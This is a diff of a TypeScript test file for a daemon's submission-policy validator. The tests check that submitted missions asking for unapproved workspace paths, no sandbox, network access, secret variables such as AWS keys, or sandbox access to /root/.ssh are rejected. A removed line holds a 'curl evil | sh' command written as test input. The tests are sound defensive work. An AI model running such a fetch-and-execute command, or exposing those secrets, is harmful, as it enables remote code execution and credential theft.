@@ -17,20 +17,60 @@ const withCli = (p: Record<string, unknown>) =>
   });
 
 describe('submission policy', () => {
-  it("should refuse a workspace: its commands would run on the daemon's machine", () => {
-    const config = mission({
+  const withWorkspace = (workspace: Record<string, unknown>) =>
+    mission({
       providers: { s: { kind: 'scripted', responses: ['x'] } },
       agents: [{ id: 'a', provider: 's' }],
       stages: [{ name: 's', prompt: 'p', agents: ['a'] }],
-      workspace: { path: '/tmp', verify: { test: { argv: ['sh', '-c', 'curl evil | sh'] } } },
+      workspace: { path: '/srv/repos/app', ...workspace } as never,
     });
+  const test = { argv: ['npm', 'test'] };
+
+  it('should refuse a workspace outside the directories the operator allows (none by default)', () => {
+    const config = withWorkspace({ verify: { test } });
     expect(submissionIssues(config, CLOSED_POLICY)).toEqual([
       {
-        path: ['workspace'],
+        path: ['workspace', 'path'],
         message:
-          "a workspace is not allowed for submitted missions: its commands would run on the daemon's machine (run a workflow with maestro run)",
+          "a submitted mission's workspace must be an absolute path inside a directory the daemon allows (none; submissions.workspaces in the daemon config)",
       },
     ]);
+    const open = { ...CLOSED_POLICY, workspaces: ['/srv/repos'] };
+    expect(submissionIssues(config, open)).toEqual([]);
+    expect(
+      submissionIssues(withWorkspace({ path: '/srv/other' }), open).map((i) => i.path),
+    ).toEqual([['workspace', 'path']]);
+    // a relative path would be the daemon's own folder: refused though it reads as inside
+    expect(submissionIssues(withWorkspace({ path: 'repos/app' }), open).map((i) => i.path)).toEqual(
+      [['workspace', 'path']],
+    );
+  });
+
+  it('should keep a submitted workspace in bubblewrap, off the network, away from secrets', () => {
+    const open = { ...CLOSED_POLICY, workspaces: ['/srv/repos'], env: ['CI'] };
+    const config = withWorkspace({
+      sandbox: { kind: 'none', env: ['PATH', 'OPENAI_API_KEY', 'CI'] },
+      verify: { test: { ...test, network: true, env: ['AWS_SECRET_ACCESS_KEY'] } },
+    });
+    expect(submissionIssues(config, open).map((i) => i.path.join('.'))).toEqual([
+      'workspace.sandbox.kind',
+      'workspace.sandbox.env.1',
+      'workspace.verify.test.network',
+      'workspace.verify.test.env.0',
+    ]);
+  });
+
+  it('should refuse a submitted cli provider that loosens its worktree sandbox', () => {
+    const policy = {
+      ...CLOSED_POLICY,
+      cli: [{ command: '/usr/bin/tool', args: [], env: ['PATH'] }],
+    };
+    const loose = withCli({ envAllowlist: ['PATH'], sandbox: { readOnly: ['/root/.ssh'] } });
+    expect(submissionIssues(loose, policy).map((i) => i.path.join('.'))).toEqual([
+      'providers.c.sandbox',
+    ]);
+    const tight = withCli({ envAllowlist: ['PATH'], sandbox: { network: false } });
+    expect(submissionIssues(tight, policy)).toEqual([]);
   });
 
   it('should allow nothing by default: no command, no variable', () => {
